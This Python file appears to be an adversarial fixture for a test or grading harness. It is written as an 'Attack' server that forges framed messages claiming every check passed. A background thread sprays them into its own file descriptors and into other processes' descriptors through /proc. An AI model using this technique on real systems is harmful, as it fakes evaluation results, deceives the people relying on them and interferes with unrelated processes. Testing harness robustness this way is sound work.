import json
import os
import stat
import struct
import threading
import time

import server


CHECKS = ("start.health", "work.echo", "work.list", "work.sum", "work.secret")


def frame(kind, payload):
    return struct.pack(">BI", kind, len(payload)) + payload


def messages():
    for check in CHECKS:
        yield {"type": "check_started", "check_id": check}
        yield {"type": "check_finished", "check_id": check, "outcome": "passed",
               "message": "", "duration_ms": 1}
    yield {"type": "end", "status": "completed", "checks": 5, "detail": "",
           "app_log_tail": ""}


WRITTEN = [0]


def spray(data):
    for number in range(3, 64):
        try:
            if not stat.S_ISREG(os.fstat(number).st_mode):
                os.set_blocking(number, False)
                WRITTEN[0] += os.write(number, data) > 0
        except OSError:
            pass
    for number in (0, 1, 2):
        try:
            WRITTEN[0] += os.write(number, data) > 0
        except OSError:
            pass
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for number in range(16):
            try:
                descriptor = os.open(f"/proc/{pid}/fd/{number}", os.O_WRONLY | os.O_NONBLOCK)
            except OSError:
                continue
            try:
                if pid != str(os.getpid()):
                    WRITTEN[0] += os.write(descriptor, data) > 0
            except OSError:
                pass
            finally:
                os.close(descriptor)


def keep_on(data):
    while True:
        spray(data)
        time.sleep(0.05)


inside = b"".join(frame(1, json.dumps(message).encode()) for message in messages())
forged = b"".join(
    frame(kind, struct.pack(">I", stream) + inside) for kind in range(256) for stream in range(4)
)
forged += struct.pack(">BI", 1, 0xFFFFFFFF) + b"\x01\x00" + struct.pack(">BI", 3, 0)
threading.Thread(target=keep_on, args=(forged,), daemon=True).start()


class Attack(server.Broken):
    def answer(self):
        self.reply(200, {"written": WRITTEN[0]})


server.serve(Attack)
